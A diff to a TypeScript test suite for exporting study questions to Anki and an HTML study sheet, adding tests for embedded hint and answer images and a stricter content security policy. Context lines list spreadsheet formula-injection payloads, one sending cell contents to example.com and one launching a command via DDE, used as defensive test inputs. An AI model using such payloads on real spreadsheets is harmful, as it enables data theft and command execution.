@@ -38,6 +38,20 @@ function hostile(text: string): ExportedQuestion {
   return { question, collection, category, body: `### In short\n\n${text}`, note: text };
 }
 
+/** A question with a picture in its hint, one in its answer, and one that was not read. */
+function pictured(): ExportedQuestion {
+  const plain = hostile('x');
+  return {
+    ...plain,
+    question: { ...plain.question, hint: '![a hint](hint.png)' },
+    body: '### In short\n\n![an answer](answer.png)\n\n![elsewhere](https://example.com/x.png)',
+    images: new Map([
+      ['hint.png', 'data:image/png;base64,aGludA=='],
+      ['answer.png', 'data:image/png;base64,YW5zd2Vy'],
+    ]),
+  };
+}
+
 const formulas = [
   '=HYPERLINK("https://example.com?"&A1)',
   "+1+cmd|' /C calc'!A0",
@@ -96,6 +110,13 @@ describe('questions for Anki', () => {
       // Deck and tags are no HTML.
       for (const cell of data[0]!.slice(0, 4)) assert.doesNotMatch(cell, /<img|<script/, text);
     }
+  });
+
+  it('have the pictures of hint and answer in them', () => {
+    const [[, , hint, answer] = []] = read(ankiFile([pictured()])).data;
+    assert.match(hint!, /^<p><img src="data:image\/png;base64,aGludA==" alt="a hint"><\/p>/);
+    assert.match(answer!, /<img src="data:image\/png;base64,YW5zd2Vy" alt="an answer">/);
+    assert.match(answer!, /<p>elsewhere<\/p>/);
   });
 
   it('show a harmless cell as it was', () => {
@@ -271,11 +292,26 @@ describe('a study sheet', () => {
     }
   });
 
+  it('has the pictures of hint and answer in it, and its policy lets them be seen', () => {
+    const html = studySheet([pictured()], texts);
+    const pictures = [...html.matchAll(/<img src="([^"]*)"/g)].map(([, address]) => address);
+    assert.deepEqual(pictures, [
+      'data:image/png;base64,aGludA==',
+      'data:image/png;base64,YW5zd2Vy',
+    ]);
+    assert.match(html, /default-src 'none'; img-src data:;/);
+    assert.match(html, /<p>elsewhere<\/p>/);
+  });
+
   it('allows no style but its own', () => {
     const sheet = studySheet([], texts);
     const [, style] = /<style>(.*)<\/style>/s.exec(sheet)!;
     const hash = createHash('sha256').update(style!).digest('base64');
-    assert.ok(sheet.includes(`content="default-src 'none'; style-src 'sha256-${hash}'; base-uri`));
+    assert.ok(
+      sheet.includes(
+        `content="default-src 'none'; img-src data:; style-src 'sha256-${hash}'; base-uri`,
+      ),
+    );
     assert.doesNotMatch(sheet, /\sstyle=/);
   });
 });
